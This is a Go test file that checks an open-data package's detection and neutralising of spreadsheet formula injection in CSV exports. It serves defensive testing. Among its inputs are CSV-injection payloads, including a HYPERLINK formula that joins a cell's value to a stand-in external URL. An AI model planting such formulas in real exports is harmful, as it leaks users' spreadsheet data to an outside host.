package opendata

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"testing"
)

func TestFormula(t *testing.T) {
	t.Parallel()
	for _, s := range []string{
		"=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "+62 21 345", "-1", "@SUM(A1)", "\tx", "\rx", "\nx",
		" =1+2", "\u00a0=1", "\"=1+2", "'=1+2", "“=1", "＝1+2", "＋1",
	} {
		if !Formula(s) {
			t.Errorf("Formula(%q) = false", s)
		}
	}
	for _, s := range []string{"", "Pelayanan", "1+2", "a=b", "e-KTP", "Rp 1.000", " ", "'"} {
		if Formula(s) {
			t.Errorf("Formula(%q) = true", s)
		}
	}
}

// TestCSVNeutralisesFormulas guards the open-data CSV: no cell, nor any
// item of a list cell, starts a formula; the JSON keeps the text.
func TestCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	bad := "=HYPERLINK(\"http://x.example/\"&B2,\"Klik\")"
	r := Record{Title: bad, Summary: "@SUM(1)", InitiatorName: "+1", Goals: " -1", Tags: []string{"aman", "=1+1"}, ContactPhone: "+62 21 1234"}
	var buf bytes.Buffer
	err := CSV(&buf, []Record{r})
	b := buf.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range rows[1] {
		if Formula(c) && c[0] != '\'' {
			t.Errorf("column %s: %q is a formula", Columns()[i], c)
		}
	}
	if rows[1][2] != "'"+bad {
		t.Errorf("title cell %q", rows[1][2])
	}
	if got := rows[1][indexOf(t, "tags")]; got != "aman; '=1+1" {
		t.Errorf("tags cell %q", got)
	}
	j, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	var back Record
	if err := json.Unmarshal(j, &back); err != nil || back.Title != bad || back.Tags[1] != "=1+1" {
		t.Errorf("JSON changed the text: %+v %v", back, err)
	}
}

func indexOf(t *testing.T, col string) int {
	for i, c := range Columns() {
		if c == col {
			return i
		}
	}
	t.Fatalf("no column %s", col)
	return -1
}
